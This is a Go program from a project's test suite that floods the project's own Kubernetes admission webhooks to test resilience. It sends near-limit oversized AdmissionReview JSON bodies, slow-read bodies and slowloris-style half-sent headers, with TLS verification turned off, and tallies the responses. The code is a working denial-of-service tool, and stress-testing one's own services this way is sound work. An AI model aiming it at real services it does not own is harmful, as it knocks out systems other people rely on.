// Copyright The Glassback Authors.
// SPDX-License-Identifier: Apache-2.0

// Attacker floods the operator's webhooks with requests that would take much memory, and prints
// how they were answered. A test runs it in a Pod.
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"
)

const (
	around = `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"operation":"CREATE","name":"a","namespace":"b",%s}}`
	job    = `"uid":"1","resource":{"group":"batch.wzj.kubebuilder.io","version":"v1","resource":"mycronjobs"},"object":`
	redis  = `"uid":"1","resource":{"group":"bytewang123-redis.wzj.kubebuilder.io","version":"v1","resource":"redisclusters"},"object":`

	validateJob = "/validate-batch-wzj-kubebuilder-io-v1-mycronjob"
	mutateRedis = "/mutate-bytewang123-redis-wzj-kubebuilder-io-v1-rediscluster"

	reported = 6_900_000 // bytes of the request that was reported
	largest  = 3_400_000 // nearly as many as are allowed
)

// flood makes bodies.
type flood struct {
	path, request string // in request, %s stands for the elements
	element       string
	length        int // of all elements, in bytes
	slow          bool
}

var floods = []flood{
	{validateJob, job + `{"spec":{"x":[%s{}]}}`, "{},", reported, false},
	{validateJob, job + `{"spec":{"x":[%s{}]}}`, "{},", largest, false},
	{validateJob, job + `{"spec":{"x":[%s{}]}}`, "{},", largest, true},
	{validateJob, job + `{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[%s{}]}}}}}}`, "{},", largest, false},
	{validateJob, job + `{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[%s{}]}}}}}}`, "{},", 14_000, false},
	{validateJob, job + `{"spec":{"jobTemplate":{"metadata":{"managedFields":[{"fieldsV1":[%s{}]}]}}}}`, "{},", largest, false},
	{validateJob, `"uid":"%s"`, "<", largest, false},
	{mutateRedis, redis + `{"spec":{"addr":"%s"},"spec":null}`, "<", largest, false},
	{mutateRedis, redis + `{"spec":{"addr":"%s"}}`, "\xff", largest, false},
	{mutateRedis, redis + `{"spec":{"addr":"%s"}}`, "<", largest, false},
}

func (f flood) body() []byte {
	elements := strings.Repeat(f.element, f.length/len(f.element))
	return []byte(strings.Replace(around, "%s", strings.Replace(f.request, "%s", elements, 1), 1))
}

// slowly reads a body so that it takes longer than anyone waits.
type slowly struct{ *bytes.Reader }

func (s slowly) Read(p []byte) (int, error) {
	time.Sleep(50 * time.Millisecond)
	return s.Reader.Read(p[:min(len(p), 4096)])
}

func main() {
	target := flag.String("target", "", "HOST:PORT of the webhooks")
	atOnce := flag.Int("at-once", 64, "how many requests there are at a time; as many connections more send half a header")
	duration := flag.Duration("for", time.Minute, "how long the attack lasts")
	flag.Parse()
	ctx, cancel := context.WithTimeout(context.Background(), *duration)
	defer cancel()
	transport := &http.Transport{
		TLSClientConfig:     &tls.Config{InsecureSkipVerify: true}, //nolint:gosec // It attacks.
		MaxIdleConnsPerHost: *atOnce,
	}
	client := &http.Client{Transport: transport, Timeout: 15 * time.Second}
	var mu sync.Mutex
	outcomes := map[string]int{}
	count := func(outcome string) {
		mu.Lock()
		defer mu.Unlock()
		outcomes[outcome]++
	}
	var attack sync.WaitGroup
	for n := range *atOnce {
		f := floods[n%len(floods)]
		body := f.body()
		attack.Go(func() {
			for ctx.Err() == nil {
				count(fmt.Sprintf("flood %d: %s", n%len(floods), f.ask(ctx, client, "https://"+*target+f.path, body)))
			}
		})
		attack.Go(func() {
			for ctx.Err() == nil {
				count("half a header: " + halfAHeader(ctx, *target))
			}
		})
	}
	attack.Wait()
	for _, outcome := range slices.Sorted(maps.Keys(outcomes)) {
		fmt.Printf("%6d %s\n", outcomes[outcome], outcome)
	}
}

// ask returns the result of a request: its status, or the kind of the error.
func (f flood) ask(ctx context.Context, client *http.Client, url string, body []byte) string {
	var reader io.Reader = bytes.NewReader(body)
	if f.slow {
		reader = slowly{bytes.NewReader(body)}
	}
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, url, reader)
	if err != nil {
		return err.Error()
	}
	request.ContentLength = int64(len(body))
	request.Header.Set("Content-Type", "application/json")
	answer, err := client.Do(request)
	if err != nil {
		time.Sleep(10 * time.Millisecond) // Else it would only fight for the node's CPU.
		return "no answer"
	}
	defer answer.Body.Close()
	if _, err := io.Copy(io.Discard, answer.Body); err != nil {
		return "half an answer"
	}
	return answer.Status
}

// halfAHeader holds a connection open, and the server's memory for a header with many lines.
func halfAHeader(ctx context.Context, target string) string {
	dialer := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true}} //nolint:gosec // It attacks.
	conn, err := dialer.DialContext(ctx, "tcp", target)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return "refused"
	}
	defer conn.Close()
	context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Now()) })
	var header strings.Builder
	header.WriteString("POST / HTTP/1.1\r\nHost: a\r\n")
	for n := range 1000 {
		fmt.Fprintf(&header, "%x:\n", n)
	}
	if _, err := io.WriteString(conn, header.String()); err != nil {
		return "closed"
	}
	if _, err := io.Copy(io.Discard, conn); err != nil && !isTimeout(err) {
		return "closed"
	}
	return "held"
}

func isTimeout(err error) bool {
	failed, ok := err.(net.Error) //nolint:errorlint // The error of a connection is not wrapped.
	return ok && failed.Timeout()
}
